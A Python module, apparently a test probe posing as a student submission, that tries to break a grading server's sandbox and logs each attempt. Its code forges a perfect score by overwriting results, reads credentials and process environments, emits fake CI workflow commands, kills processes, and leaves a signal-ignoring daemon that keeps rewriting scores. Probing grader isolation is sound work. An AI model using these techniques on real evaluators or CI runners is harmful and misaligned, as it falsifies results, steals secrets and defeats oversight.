"""A student's module that would like other points: what it tries, told in the server's log as `FORGED <attack> <what came of it>`.

Handed in beside a server that imports it; `targets.json` tells it everything that an attacker could hope to guess.
"""

from __future__ import annotations

import json
import os
import signal
import sys
from pathlib import Path

TARGETS = json.loads(Path("targets.json").read_text(encoding="utf-8"))
HUNDRED = b'{"schema": "check-hacks/report/v1", "score": 100, "max_score": 100, "complete": true}\n'


def main():
    for name in TARGETS["attacks"]:
        sys.stdout.write(f"FORGED {name} {tried(globals()[name])}\n")
        sys.stdout.flush()


def tried(attack):
    try:
        return attack() or "done"
    except OSError as error:
        return f"refused ({error.strerror})"


def each(action, paths):
    """How many of these files let it."""
    return f"{sum(tried(lambda path=path: action(path)) == 'done' for path in paths)} of {len(paths)}"


def write_results():
    return each(overwrite, TARGETS["results"])


def add_to_the_runners_files():
    return each(append, files_of_the_runner())


def read_credentials():
    return each(look, TARGETS["credentials"])


def lay_links():
    return each(link, [*TARGETS["results"], *files_of_the_runner()])


def plant_modules():
    return each(lambda folder: overwrite(f"{folder}/json.py"), TARGETS["python"])


def plant_for_later_steps():
    return each(overwrite, TARGETS["later"])


def rewrite_our_package():
    return each(append_nothing, TARGETS["package"])


def read_environments():
    """Whether any process shows what the runner told it. The secret is turned round: who has it itself has read it from us."""
    secret = TARGETS["secret"][::-1].encode()
    found = [pid for pid in others() if secret in environment_of(pid)]
    return f"{len(found)} of {len(others())}"


def open_memory():
    return each(append_nothing, [f"/proc/{pid}/mem" for pid in (os.getppid(), *TARGETS["graders"])])


def own_environment():
    told = [name for name in os.environ if any(part in name for part in ("GITHUB", "TOKEN", "RUNNER", "ACTIONS"))]
    return f"{len(told)} of {len(os.environ)}"


def speak_to_the_runner():
    sys.stdout.write("::set-output name=score::100\n::error::forged\n##[set-env name=PATH;]/tmp\n")
    sys.stderr.write(HUNDRED.decode())


def speak_through_others():
    """What another process prints to goes where the runner reads, when it is the step's own output."""
    return each(
        lambda path: say(path, b"\n::error::forged through another\n"),
        [f"/proc/{pid}/fd/{number}" for pid in (1, *others()) for number in (1, 2)],
    )


def kill_everybody():
    for pid in others():
        tried(lambda pid=pid: os.kill(pid, signal.SIGKILL))


def leave_a_daemon():
    """Another session, no parent, no environment, another folder, deaf to polite signals; it rewrites results as long as it lives."""
    text = (
        "import os, signal, sys, time\n"
        "for number in (1, 2, 15): signal.signal(number, signal.SIG_IGN)\n"
        "while True:\n"
        "    for path in sys.argv[2:]:\n"
        "        try: open(path, 'wb').write(b'{\"score\": 100}')\n"
        "        except OSError: pass\n"
        "    time.sleep(0.01)\n"
    )
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.chdir("/")
            for number in (0, 1, 2):
                os.dup2(os.open(os.devnull, os.O_RDWR), number)
            os.execve(sys.executable, [sys.executable, "-c", text, TARGETS["token"], *TARGETS["results"]], {})
        os._exit(0)
    os.wait()


def others():
    return [int(each.name) for each in Path("/proc").iterdir() if each.name.isdigit() and int(each.name) not in (1, os.getpid())]


def environment_of(pid):
    try:
        return Path(f"/proc/{pid}/environ").read_bytes()
    except OSError:
        return b""


def files_of_the_runner():
    """They have names that nobody knows, in a folder that everybody knows. Nothing to be seen counts as one that refuses."""
    return [str(path) for path in Path(TARGETS["runner"]).glob("*_*")] or [TARGETS["runner"]]


def overwrite(path):
    Path(path).write_bytes(HUNDRED)


def append(path):
    with Path(path).open("ab") as file:
        file.write(b"score=100\n")


def say(path, words):
    descriptor = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
    os.write(descriptor, words)
    os.close(descriptor)


def append_nothing(path):
    os.close(os.open(path, os.O_RDWR))


def look(path):
    Path(path).read_bytes()


def link(path):
    Path(path).unlink()
    Path(path).symlink_to("/dev/null")


main()
